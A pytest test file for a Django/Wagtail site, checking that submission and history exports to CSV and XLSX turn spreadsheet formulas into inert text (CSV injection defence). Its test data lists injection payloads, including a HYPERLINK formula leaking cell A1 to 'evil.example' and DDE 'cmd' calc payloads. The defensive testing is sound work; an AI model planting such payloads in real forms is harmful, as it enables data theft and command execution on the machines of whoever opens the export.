"""Answers that a spreadsheet would run as formulas (CSV injection) are exported as text: in the
submissions' CSV, in every other CSV the admin writes, and in XLSX (where Wagtail already
writes every cell as text)."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from media.models import PhotoEntry
from public_forms.spreadsheets import neutralise
from tests.calls.conftest import valid_data
from tests.factories import PhotoContestPageFactory, add_form_fields
from tests.media.conftest import entry_data, photo_bytes

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_made_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Ada Lovelace", "-12.5", "+41", "1e5", "42", "", "'=already text", None, 3]
)
def test_other_cells_are_left_alone(value):
    assert neutralise(value) == value


def read_export(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode())))


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_submissions_csv_holds_formulas_as_text(admin_client, open_call, formula):
    add_form_fields(open_call, ("Comment", "multiline", False), ("Budget", "number", False))
    data = valid_data(name=formula, comment=formula, budget="-12.5")
    assert admin_client.post(open_call.url, data).status_code == 200

    export = admin_client.get(f"/admin/forms/submissions/{open_call.pk}/", {"export": "csv"})
    headings, row = read_export(export)
    cells = dict(zip(headings, row, strict=True))
    # A one-line answer keeps no tab or line break: only the long answer starts with one.
    assert cells["Name"] == "'" + formula.strip()
    assert cells["Comment"] == "'" + formula.strip() or cells["Comment"] == "'" + formula
    assert cells["Budget"] == "-12.5"  # a number stays a number


def test_a_field_label_is_made_text_too(admin_client, open_call):
    add_form_fields(open_call, ("=1+1", "singleline", False))
    admin_client.post(open_call.url, valid_data())
    export = admin_client.get(f"/admin/forms/submissions/{open_call.pk}/", {"export": "csv"})
    assert "'=1+1" in read_export(export)[0]


def test_the_xlsx_export_holds_formulas_as_text(admin_client, open_call):
    formula = FORMULAS[0]
    assert admin_client.post(open_call.url, valid_data(name=formula)).status_code == 200
    export = admin_client.get(f"/admin/forms/submissions/{open_call.pk}/", {"export": "xlsx"})
    content = b"".join(export.streaming_content) if export.streaming else export.content
    sheet = load_workbook(io.BytesIO(content)).active
    headings, row = sheet.iter_rows(min_row=1, max_row=2)
    cells = {heading.value: cell for heading, cell in zip(headings, row, strict=True)}
    name = cells["Name"]
    # Stored as it was typed, as a string: Excel and LibreOffice show it and never run it.
    assert name.value == formula and name.data_type == "s"


@pytest.fixture
def contest(english_home):
    return PhotoContestPageFactory(parent=english_home)


def test_wagtails_own_csv_reports_hold_formulas_as_text(admin_client, contest):
    """A photo's title reaches the site history (the label of its log entries) once a
    moderator has edited the entry."""
    upload = SimpleUploadedFile("photo.jpg", photo_bytes(), "image/jpeg")
    title = '=HYPERLINK("http://evil.example","Photo")'
    data = {**entry_data(title=title, photographer="@Grace"), "original": upload}
    assert admin_client.post(f"{contest.url}enter/", data).status_code == 200
    entry = PhotoEntry.objects.get()
    edit = {"status": "pending", "winner_rank": "", "notes": "Checked."}
    admin_client.post(f"/admin/snippets/media/photoentry/edit/{entry.pk}/", edit)

    export = admin_client.get("/admin/reports/site-history/", {"export": "csv"})
    assert export["Content-Type"].startswith("text/csv")
    rows = read_export(export)
    labels = [row[1] for row in rows[1:]]
    assert f"'{title} (@Grace)" in labels
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
